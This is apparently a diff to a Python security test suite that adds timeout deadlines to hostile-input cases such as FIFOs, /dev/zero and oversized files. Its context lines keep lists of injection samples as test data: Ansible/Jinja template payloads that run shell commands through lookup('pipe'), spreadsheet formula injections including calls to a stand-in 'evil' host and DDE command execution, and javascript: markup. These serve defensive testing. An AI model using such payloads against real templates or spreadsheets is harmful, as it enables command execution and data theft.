@@ -36,6 +36,7 @@ PAYLOADS = ["{{ lookup('pipe', 'touch MARK') }}", "{% set x = lookup('pipe', 'to
             "a'] + [lookup('pipe','touch MARK')] + ['", "{{ hostvars }}", "x\n  - debug: {msg: \"{{ lookup('pipe', "
             "'touch MARK') }}\"}", "!unsafe {{ lookup('pipe','touch MARK') }}", "{{ query('pipe', 'touch MARK') }}",
             "{# #}{{ lookup(\"pipe\", \"touch MARK\") }}"]
+QUICK = 10.0  # seconds: a refusal of a hostile input, on a loaded shared machine
 FORMULAS = ["=HYPERLINK(\"http://evil/\"&A1,\"open\")", "=WEBSERVICE(\"http://evil/\")", "=cmd|' /C calc'!A0",
             "+1+cmd|' /C calc'!A0", "-2+3", "@SUM(1)", "\t=1+1", "\r=1+1"]
 MARKUP = ['<table href="javascript:alert(1)"><tr><td href="javascript:alert(2)">y</td></tr></table>',
@@ -327,9 +328,9 @@ def input_cases() -> list[Case]:
     kinds = ["fifo", "/dev/zero", "sparse 4 GiB", "nested 100,000 deep", "5,000-digit number"]
     for kind in kinds:
         cases.append(Case("sec/input", f"remediate: {kind}", command(lambda p: ["remediate", str(p)], kind),
-                          expect=(65,)))
+                          expect=(65,), deadline=QUICK))
         cases.append(Case("sec/input", f"diff: {kind}", command(lambda p: ["diff", str(p), str(p)], kind),
-                          expect=(65,)))
+                          expect=(65,), deadline=QUICK))
     for kind in ["fifo", "/dev/zero", "sparse 4 GiB"]:
         for name, argv in (("verify", lambda p: ["verify", str(p)]), ("report", lambda p: ["report", str(p)]),
                            ("fleet", lambda p: ["fleet", str(p)]), ("trail verify", lambda p: ["trail", "verify",
@@ -337,7 +338,8 @@ def input_cases() -> list[Case]:
             # fleet lists a bundle it cannot read as NOT VERIFIED (exit 1); a sparse audit log of zeros is one
             # endless line: broken (exit 1), read in bounded memory
             expect = (1,) if name == "fleet" or (name == "trail verify" and kind == "sparse 4 GiB") else (65,)
-            cases.append(Case("sec/input", f"{name}: {kind}", command(argv, kind, ".tar.gz"), expect=expect))
+            cases.append(Case("sec/input", f"{name}: {kind}", command(argv, kind, ".tar.gz"), expect=expect,
+                              deadline=60.0 if kind == "sparse 4 GiB" and name == "trail verify" else QUICK))
 
     def trail(make: Callable[[Path], None]) -> Callable[[Path], Run]:
         def run(w: Path) -> Run:
@@ -356,8 +358,8 @@ def input_cases() -> list[Case]:
         body = '{"prev":"' + "0" * 64 + '","seq":' + "9" * 5000 + ',"x":1'
         path.write_text(body + ',"hash":"' + hashlib.sha256(body.encode()).hexdigest() + '"}\n')
 
-    cases += [Case("sec/input", "trail verify: a 200 MiB line", trail(long_line), expect=(1,)),
-              Case("sec/input", "trail verify: a 5,000-digit seq", trail(long_seq), expect=(1,))]
+    cases += [Case("sec/input", "trail verify: a 200 MiB line", trail(long_line), expect=(1,), deadline=QUICK),
+              Case("sec/input", "trail verify: a 5,000-digit seq", trail(long_seq), expect=(1,), deadline=QUICK)]
 
     def roster(make: Callable[[Path], Path], name: str) -> Callable[[Path], Run]:
         def run(w: Path) -> Run:
@@ -381,7 +383,7 @@ def input_cases() -> list[Case]:
         "roster FIFO": (lambda p: hf.fifo(p), "r.csv"),
         "roster /dev/zero as a CSV": (_zero_link, "r.csv"),
     }
-    cases += [Case("sec/input", f"roster: {name}", roster(make, suffix), expect=(65,))
+    cases += [Case("sec/input", f"roster: {name}", roster(make, suffix), expect=(65,), deadline=QUICK)
               for name, (make, suffix) in tables.items()]
     return cases
 
